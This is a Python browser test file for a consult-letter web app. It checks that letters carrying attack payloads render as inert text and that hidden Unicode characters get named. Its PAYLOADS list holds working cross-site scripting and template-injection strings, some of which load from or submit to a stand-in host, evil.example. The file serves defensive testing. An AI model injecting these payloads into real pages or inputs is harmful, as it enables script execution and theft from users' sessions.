"""Letters with payloads: shown as text, and nothing of them runs, loads or hides."""

import pytest
from playwright.sync_api import Browser

from consultant.storage import consults
from consultant.storage.session import reading
from tests.web.desks import Place
from tests.web.samples import mail_in
from tests.web.walks import opened, served

pytestmark = pytest.mark.browser

#: (subject, text)
PAYLOADS = (
    ("<script>alert(1)</script>", "33953 <script>alert(document.cookie)</script> or 33954?"),
    ("img", '<img src="http://evil.example/x.png" onerror="alert(1)"> what is E11.9?'),
    ("style", "<style>body{display:none}@import url(//evil.example)</style> J96.01?"),
    ("{{ 7*7 }} {% raw %}", "{{ config }} {{ ''.__class__ }} ${7*7} <%= 7*7 %> E11.9?"),
    ("attr", "\"' onmouseover=alert(1) x=\" E11.9 'x' autofocus onfocus=alert(1)"),
    (
        "link",
        "javascript:alert(1) [x](javascript:alert(1)) data:text/html,<script>1</script> J96.01",
    ),
    ("svg", "<svg/onload=alert(1)><iframe srcdoc='<script>alert(1)</script>'></iframe> E11.9?"),
    (
        "form",
        '<form action="//evil.example"><button>Approve</button></form></textarea></div> E11.9',
    ),
    (
        "rtl \u202etxet",
        "\u202eneddih\u202c and \u2066isolated\u2069 E11.9 pa\u200bti\u200bent \ufeff?",
    ),
    ("zero width", "\u200b".join("What is E11.9? " * 400)),
    ("huge", "Is E11.9 billable? " + "long word " * 30_000),
    ("one word", "E11.9 " + "x" * 50_000),
    ("hx", '<div hx-get="//evil.example" hx-trigger="load"></div> <a href=# hx-on:click=alert(1)>'),
)


def test_payload_letters_are_shown_inert(browser: Browser, busy_place: Place) -> None:
    place = busy_place
    for subject, text in PAYLOADS:
        mail_in(place.desk, "Mallory <mallory@evil.example>", subject, text)
    with reading(place.desk.engine) as session:
        found = [c for c in consults.listing(session) if "mallory" in c.from_address]
    ann = place.add("Ann Inert")
    assert len(found) >= len(PAYLOADS) - 2

    with served(place) as base, opened(browser, base, place.token(ann)) as (page, watch):
        page.goto("/")
        for consult in found:
            page.goto(f"/consults/{consult.reference}")
            page.mouse.move(200, 300)
            assert page.get_by_role("heading", name="Letter", exact=True).is_visible()
            assert (
                page.locator(".letter-text script, .letter-text img, .letter-text svg").count() == 0
            )
            assert len(page.content()) < 400_000

    assert watch.dialogs == []
    assert watch.foreign == []
    assert watch.errors == []


def test_what_cannot_be_seen_is_named(browser: Browser, busy_place: Place) -> None:
    place = busy_place
    mail_in(place.desk, "Zoe <zoe@a.example>", "hidden", "Is E11.9\u200b billable, \u202epa\u202c?")
    with reading(place.desk.engine) as session:
        (consult,) = (c for c in consults.listing(session) if c.from_address == "zoe@a.example")
    page = place.signed_in(place.add("Zelda Looks")).get(f"/consults/{consult.reference}").text

    assert "[zero width space]" in page
    assert "[right-to-left override]" in page
